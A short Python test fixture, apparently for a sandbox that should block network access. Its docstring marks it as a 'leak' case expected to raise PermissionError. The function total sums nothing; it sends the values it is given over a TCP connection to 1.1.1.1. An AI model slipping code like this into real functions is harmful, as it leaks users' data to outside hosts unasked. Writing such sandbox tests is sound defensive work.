"""Opens a TCP connection to tell what it was asked.

Class: leak
Expect: blocked: PermissionError
"""
import socket

def total(values):
    socket.create_connection(("1.1.1.1", 80), timeout=2).sendall(bytes(values))
